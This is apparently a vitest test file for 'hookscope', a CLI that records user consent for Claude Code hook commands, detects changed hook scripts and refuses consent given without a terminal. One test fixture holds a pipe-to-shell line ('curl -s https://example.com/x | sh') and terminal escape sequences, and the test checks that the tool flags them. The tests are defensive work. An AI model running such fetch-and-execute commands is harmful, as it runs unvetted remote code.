import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, expect, test } from 'vitest';
import type { Terminal } from '../../src/cli/terminal.js';
import { trustCommand } from '../../src/cli/trust.js';
import { cli } from '../cli/cli.js';
import { closeAll, createProject, hooksOn, type Project } from './project.js';

const OWN = { ...process.env };
let project: Project;
beforeEach(() => {
  project = createProject();
  Object.assign(process.env, { HOME: project.home, XDG_CONFIG_HOME: join(project.path, 'config') });
  project.write('project/.claude/settings.json', hooksOn('PreToolUse', { type: 'command', command: './guard.sh' }));
  project.write('project/guard.sh', '#!/bin/sh\n# \u001b[2J\necho no >&2; exit 2\n', 0o755);
});
afterEach(async () => {
  for (const key of ['HOME', 'XDG_CONFIG_HOME']) delete process.env[key];
  Object.assign(process.env, OWN);
  await closeAll();
});

/** The command, with somebody at the terminal who answers so; `undefined`: nobody. */
async function trust(flags: object, ...answers: string[]) {
  const printed: string[] = [];
  const asked: string[] = [];
  const ask = async (question: string): Promise<string> => {
    asked.push(question);
    return answers[asked.length - 1] ?? '';
  };
  const terminal: Terminal = {
    ...{ color: false, live: false, columns: 80, gone: false, signal: new AbortController().signal },
    print: async (text) => void printed.push(text),
    write: () => {},
    tell: (text) => void printed.push(text),
    ask: answers.length > 0 ? ask : undefined,
  };
  const code = await trustCommand([project.dir], flags, terminal);
  return { code, asked, text: printed.join('\n') };
}

const fire = () =>
  cli(
    ['fire', 'PreToolUse', '--claude-code', project.dir, '--json', '--input', project.write('call.json', project.call)],
    { cwd: project.path },
  );
const verdict = async (): Promise<string> =>
  (JSON.parse((await fire()).stdout) as { decision: { verdict: string } }).decision.verdict;

test('shows what would be accepted, asks, and keeps the consent; a changed byte is shown as a change', async () => {
  expect(await verdict()).toBe('none');
  const first = await trust({}, 'n');
  expect(first).toMatchObject({
    code: 1,
    asked: [`Accept ${join(project.dir, '.claude/settings.json')}? [y/N, data NAME: that file changes by itself] `],
  });
  expect(first.text).toContain('"command": "./guard.sh"');
  expect(first.text).toContain('+echo no >&2; exit 2');
  expect(first.text).not.toContain('\u001b');
  expect((await trust({}, 'y')).code).toBe(0);
  expect(await verdict()).toBe('deny');
  expect(await trust({}, 'y')).toMatchObject({ code: 0, asked: [], text: 'Nothing is held.' });

  const script = join(project.dir, 'guard.sh');
  writeFileSync(script, readFileSync(script, 'utf8').replace('no', 'NO'));
  expect(await verdict()).toBe('ask');
  const { stderr } = await fire();
  expect(stderr).toMatch(
    /untrusted: guard\.sh, which .* names, has changed since it was accepted; see hookscope trust/,
  );
  expect(stderr.match(/untrusted: /g), 'told once').toHaveLength(1);
  const again = await trust({ yes: true }, '');
  expect([again.code, again.asked]).toEqual([0, []]);
  expect(again.text).toContain('what has changed:');
  expect(again.text).toContain('-echo no >&2; exit 2\n    +echo NO >&2; exit 2');
  expect(await verdict()).toBe('deny');
  expect(statSync(join(project.path, 'config/hookscope/trust.json')).mode & 0o777).toBe(0o600);
});

test('says which words of a command no consent can bind', async () => {
  const command = 'sh guard.sh; curl -s https://example.com/x | sh; "$UNKNOWN/x\u001b[2J"; echo "$FINE"';
  project.write('project/.claude/settings.json', hooksOn('PreToolUse', { type: 'command', command }));
  const { text } = await trust({}, 'n');
  const [, words = ''] = /no consent binds:\n((?: {2}.*\n)+?) {2}what/.exec(text) ?? [];
  expect(words.trim().split('\n  ')).toEqual(['"$UNKNOWN/x\\u{1b}[2J"', 'curl -s https://example.com/x']);
});

test('lists and forgets', async () => {
  expect(await trust({ list: true })).toMatchObject({ code: 1, text: expect.stringContaining('never  ') });
  await trust({}, 'yes');
  expect(await trust({ list: true })).toMatchObject({
    code: 0,
    text: expect.stringMatching(/^accepted .*settings\.json/),
  });
  expect((await trust({ revoke: true })).text).toContain('forgotten');
  expect(await trust({ revoke: true })).toMatchObject({ code: 0, text: 'Nothing of it was accepted.' });
  expect(await verdict()).toBe('none');
});

test('without a terminal nothing is accepted, whatever a program asks for', async () => {
  const run = (...args: string[]) => cli(['trust', project.dir, ...args], { cwd: project.path, stdin: 'y\n' });
  expect(await run()).toMatchObject({
    code: 1,
    stderr: expect.stringContaining('nothing was accepted: run it at a terminal'),
  });
  expect(await run('--yes')).toMatchObject({
    code: 1,
    stdout: '',
    stderr: expect.stringContaining('consent is given at a terminal'),
  });
  expect(await verdict()).toBe('none');
});

test('a project that would keep its own consent is refused', async () => {
  process.env['XDG_CONFIG_HOME'] = join(project.dir, 'config');
  expect(await fire()).toMatchObject({ code: 1, stderr: expect.stringContaining('it lies in the project') });
});

test('--trust takes two words', async () => {
  const { code, stderr } = await cli(['list', '--claude-code', project.dir, '--trust', 'some'], { cwd: project.path });
  expect([code, stderr]).toEqual([1, expect.stringContaining('--trust: expected all or stored, got "some"')]);
});
